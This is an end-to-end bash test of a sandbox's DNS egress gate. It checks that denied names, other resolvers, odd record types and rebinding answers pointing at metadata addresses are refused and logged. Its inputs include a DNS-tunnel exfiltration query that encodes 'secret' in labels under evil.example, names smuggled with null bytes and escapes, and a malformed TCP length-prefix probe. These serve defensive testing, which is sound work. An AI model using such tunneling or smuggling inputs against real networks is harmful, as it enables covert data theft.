#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The DNS gate, with dig: what it answers, what it refuses, and what the world's resolver hears of it.

. "$(dirname "$0")/../lib/e2e.sh"
world_enter "$@"
world_up

query() { # DIG-ARG…
	agent dig +time=60 +tries=1 "$@" 2>&1
}

for via in +notcp +tcp; do
	out=$(query $via api.openai.com A)
	has "$via: an allowed name is answered" "$out" 'IN\s+A\s+203\.0\.113\.10$'
	out=$(query $via api.openai.com AAAA)
	has "$via: over IPv6 too" "$out" 'IN\s+AAAA\s+2001:db8:113::10$'
	world_forget
	start=$EPOCHREALTIME
	out=$(query $via evil.example)
	has "$via: another name is REFUSED" "$out" 'status: (REFUSED|NXDOMAIN)'
	at_once "$via: at once" 30 "$start"
	audited "$via: reason" '"deny"' "$(reason dns-name-denied)" 'evil\.example'
	refuse "$via: the resolver was not asked" asked evil.example
	out=$(query $via @8.8.8.8 api.openai.com)
	hasnt "$via: another resolver does not answer" "$out" '203\.0\.113\.10'
	has "$via: and says so at once" "$out" 'refused|REFUSED|unreachable|prohibited|communications error|no servers'
	out=$(query $via @2001:4860:4860::8888 api.openai.com)
	hasnt "$via: nor over IPv6" "$out" '203\.0\.113\.10'
	out=$(query $via "@$RESOLVER4" api.openai.com)
	hasnt "$via: nor the host's resolver directly" "$out" '203\.0\.113\.10'
done

# names at the edge
world_forget
for n in API.OPENAI.COM ApI.oPeNaI.cOm api.openai.com.; do
	out=$(query "$n")
	has "$n is the same name" "$out" '203\.0\.113\.10'
	has "$n: the question comes back as it was asked" "$out" "^;${n%.}\.\s"
done
for n in xapi.openai.com api.openai.com.evil.example openai.com com . x.api.openai.com \
	api-openai.com apixopenai.com 'api\.openai.com' 'api.openai.com\000.evil.example' \
	'\097pi.openai.com.evil.example' localhost 10.113.0.203.in-addr.arpa; do
	world_forget
	out=$(query "$n")
	has "$n is refused" "$out" 'status: (REFUSED|NXDOMAIN|FORMERR|SERVFAIL)'
	refuse "$n: the resolver was not asked" grep -q ' IN$' "$WORLD/log/unbound.out"
done

# a channel out: data in labels and in types
world_forget
for i in 1 2 3; do query "$i-c2VjcmV0.tunnel.evil.example" TXT >/dev/null; done
refuse "a tunnel of names does not reach the resolver" grep -q tunnel "$WORLD/log/unbound.out"
for t in TXT ANY NULL MX SRV NS SOA AXFR; do
	out=$(query +notcp api.openai.com $t)
	hasnt "type $t of an allowed name is not passed on" "$out" 'type not allowed|ns\.world'
	has "type $t is refused" "$out" 'status: REFUSED|Transfer failed'
done
for t in HTTPS SVCB; do
	out=$(query api.openai.com $t)
	hasnt "type $t carries no encrypted hello" "$out" 'ech='
	has "type $t: it is nothing at all" "$out" ' ANSWER: 0,'
done
out=$(query api.openai.com CH)
hasnt "class CH is not passed on" "$out" '203\.0\.113'
has "class CH is refused" "$out" 'status: REFUSED'
out=$(query +opcode=update api.openai.com)
has "an update is refused" "$out" 'status: (REFUSED|NOTIMP|FORMERR)'
out=$(query +bufsize=512 +ednsopt=65001:736563726574 api.openai.com)
has "EDNS with an unknown option still works" "$out" '203\.0\.113\.10'

# answers that point inward
out=$(confined names dig +time=10 +tries=1 metadata.rebind.test A 2>&1)
hasnt "an answer with the metadata address is withheld" "$out" 'IN\s+A\s+169'
audited "and the reason told" "$(reason dns-answer-denied)"
out=$(confined names dig +time=10 +tries=1 metadata.rebind.test AAAA 2>&1)
hasnt "also when it is mapped into IPv6" "$out" 'IN\s+AAAA\s+::ffff:169'
out=$(confined names dig +time=10 +tries=1 mixed.rebind.test A 2>&1)
hasnt "of a mixed answer the bad address is withheld" "$out" 'IN\s+A\s+169'
has "and the good one is given" "$out" 'IN\s+A\s+203\.0\.113\.10$'

# a private address may be a server's of one's own, so that it is for the policy to say that it is not
world_name private.rebind.test fd12:3456:789a::1
world_name nat.rebind.test 64:ff9b::a01:203
cat >"$WORLD/tmp/private.yaml" <<'END'
apiVersion: exeat.dev/v1alpha1
kind: EgressPolicy
metadata: {name: private, namespace: default}
spec:
  egress:
  - toFQDNs: [{matchPattern: "*.rebind.test"}]
    toPorts: [{ports: [{port: "443", protocol: TCP}]}]
  egressDeny:
  - preset: private
END
# shellcheck disable=SC2016 # runs inside
out=$("$EXEAT" run -q -p "$WORLD/tmp/private.yaml" -- bash -c 'for n in private nat good; do
	dig +short +time=10 +tries=1 $n.rebind.test A; dig +short +time=10 +tries=1 $n.rebind.test AAAA; done' 2>&1)
same "attack 62: with the preset none is answered, whatever hides it" "$out" $'203.0.113.70\n2001:db8:113::70'
out=$(confined names dig +time=10 +tries=1 many.example A 2>&1)
has "many addresses" "$out" 'IN\s+A\s+203\.0\.113\.2[0-3][0-9]'
out=$(confined names dig +time=10 +tries=1 one.cname.test A 2>&1)
has "a chain of CNAMEs ends in an address" "$out" 'IN\s+A\s+203\.0\.113\.70'
out=$(confined names dig +time=10 +tries=1 nothere.rebind.test A 2>&1)
has "what does not exist does not exist" "$out" 'status: NXDOMAIN'

# not DNS at all
tap_import "$(agent python3 "$CLIENTS/dns_cases.py" 2>&1)"
audited "and the reason told" '"deny"' "$(reason dns-malformed)"
audited "also of a question that never ends" '"deny"' "$(reason timeout)" '"app":"dns"'
audited "and of a connection too many" '"deny"' "$(reason limit)" '"app":"dns"'
# shellcheck disable=SC2016 # runs inside
out=$(agent bash -c 'exec 3<>/dev/tcp/192.0.0.1/53; printf "\377\377" >&3; timeout 8 cat <&3' 2>&1) # a whole one is waited for 10 s
same "a question of 65535 bytes is not waited for" $? 0
audited "nor is that left out" '"deny"' "$(reason dns-malformed)"

# who does not wait for the answer has asked all the same
cat >"$WORLD/tmp/leave.py" <<'END'
import socket, struct, time
def query(name):
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b"."))
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
left = query(b"left.rebind.test")
with socket.create_connection(("192.0.0.1", 53)) as s:
    s.sendall(struct.pack(">H", len(left)) + left)
    time.sleep(1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(query(b"gone.rebind.test"), ("192.0.0.1", 53))
    time.sleep(1)
END
kill -STOP "$(cat "$WORLD/pid/unbound")"
confined names python3 "$WORLD/tmp/leave.py"
kill -CONT "$(cat "$WORLD/pid/unbound")"
for n in left gone; do
	check "the resolver has heard of $n" world_wait 20 asked $n.rebind.test
	audited "so it is on record" '"allow"' "$n\.rebind\.test"
done

# the resolver is dead: an error, soon, and not an open door
kill "$(cat "$WORLD/pid/unbound")"
start=$EPOCHREALTIME
out=$(agent dig +time=60 +tries=1 api.openai.com 2>&1)
has "without a resolver the answer is SERVFAIL" "$out" 'status: SERVFAIL'
at_once "within its time" 30 "$start"
audited "reason" "$(reason dns-upstream)"

tap_done
